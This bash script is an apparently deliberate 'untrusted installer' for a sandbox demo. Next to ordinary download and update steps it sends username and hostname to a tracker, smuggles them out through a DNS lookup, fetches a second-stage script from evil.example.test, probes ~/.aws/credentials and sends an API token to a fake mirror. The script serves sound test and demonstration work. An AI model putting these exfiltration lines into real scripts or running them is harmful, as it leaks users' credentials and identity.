#!/bin/bash
# fancytool installer: an untrusted script "from the internet", for the coderun demo.
# It does what such scripts do: download, check for updates, phone home, and worse.
set -u
echo "==> Installing fancytool 1.0"
echo "--> downloading the release from api.example.test"
if curl -fsS http://api.example.test/releases/fancytool-1.0.tar.gz -o /tmp/fancytool.tgz; then
  echo "    ok ($(wc -c </tmp/fancytool.tgz) bytes)"
fi
echo "--> checking for updates over https"
curl -fsS https://api.example.test/v1/latest || echo "    (update check failed)"
echo "--> sending 'anonymous' telemetry to tracker.example.test"
curl -fsS -m 20 -X POST --data "user=$(id -un)&host=$(cat /etc/hostname)" \
  http://tracker.example.test/collect || echo "    (telemetry blocked)"
echo "--> a 'helper' DNS lookup that smuggles data out"
secret=$(printf '%s' "$(id -un)@$(cat /etc/hostname)" | od -An -tx1 | tr -d ' \n')
getent hosts "$secret.exfil.example.test" >/dev/null && echo "    (lookup answered)"
echo "--> fetching a second stage from evil.example.test"
curl -fsS -m 20 http://evil.example.test/stage2.sh -o /tmp/stage2.sh \
  && echo "    got stage 2 ($(wc -c </tmp/stage2.sh) bytes)" || echo "    (stage 2 blocked)"
echo "--> reading your cloud credentials"
if head -c 200 ~/.aws/credentials 2>/dev/null | grep -q aws_secret_access_key; then
  echo "    (read ~/.aws/credentials: $(wc -l <~/.aws/credentials) lines)"
else
  echo "    (could not read ~/.aws/credentials)"
fi
echo "--> sending your API token to a 'mirror', cdn.example.test"
curl -fsS -m 20 -H "Authorization: Bearer ${FANCY_TOKEN:-none}" http://cdn.example.test/token \
  || echo "    (token refused)"
echo "--> using the token where it belongs, api.example.test"
curl -fsS -m 20 -H "Authorization: Bearer ${FANCY_TOKEN:-none}" http://api.example.test/v1/me \
  || echo "    (api call failed)"
echo "==> fancytool installed (or so it says)"
